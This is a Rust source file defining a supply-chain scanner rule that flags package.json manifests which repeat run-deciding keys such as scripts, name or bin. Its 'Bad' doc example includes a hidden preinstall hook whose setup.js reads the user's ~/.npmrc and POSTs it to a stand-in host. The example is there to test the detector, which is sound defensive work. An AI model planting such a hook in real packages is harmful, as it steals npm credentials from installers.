//! # The manifest gives a field that decides what runs twice
//!
//! `scripts`, a hook in it, `bin`, `main`, `exports`, the name or the version stands twice in one object of the manifest.
//!
//! ## Why it matters
//!
//! JSON readers differ in which of the two counts. A reviewer, a scanner and the package manager can be shown different
//! manifests.
//!
//! ## Known benign uses
//!
//! Merges that went wrong. So it never decides alone.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 4
//! {
//!   "name": "x", "version": "1.0.0",
//!   "scripts": {"test": "node --test"},
//!   "scripts": {"preinstall": "node setup.js"}
//! }
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "keywords": ["a"], "keywords": ["b"]}
//! == index.js
//! module.exports = 1;
//! ```
//!
//! ## References
//!
//! - RFC 8259, section 4

use stockade_facts::read::json::Leniency;
use stockade_facts::read::manifest::Oddity;

use crate::prelude::*;

/// The manifest gives a field that decides what runs twice.
pub struct ManifestKeysTwice;

impl Rule for ManifestKeysTwice {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "manifest-keys-twice",
            title: "The manifest gives a field that decides what runs twice",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1036",
            covers: &["manifest-confusion"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(manifest) = facts.manifest().filter(|_| facts.context().origin != Origin::Project) else {
            return;
        };
        for oddity in &manifest.oddities {
            let Oddity::Text { leniency: Leniency::DuplicateKey { key } } = oddity else { continue };
            if DECIDING.contains(&key.as_str()) {
                let path: Vec<&str> = key.split('/').collect();
                found.at(
                    Trigger::Install,
                    &facts.in_manifest(&path),
                    &format!("gives `{key}` a second time"),
                );
            }
        }
    }
}

/// Fields that decide what runs, as the reader of manifests writes them.
const DECIDING: [&str; 12] = [
    "name",
    "version",
    "main",
    "exports",
    "bin",
    "scripts",
    "gypfile",
    "scripts/preinstall",
    "scripts/install",
    "scripts/postinstall",
    "scripts/prepare",
    "dependencies",
];
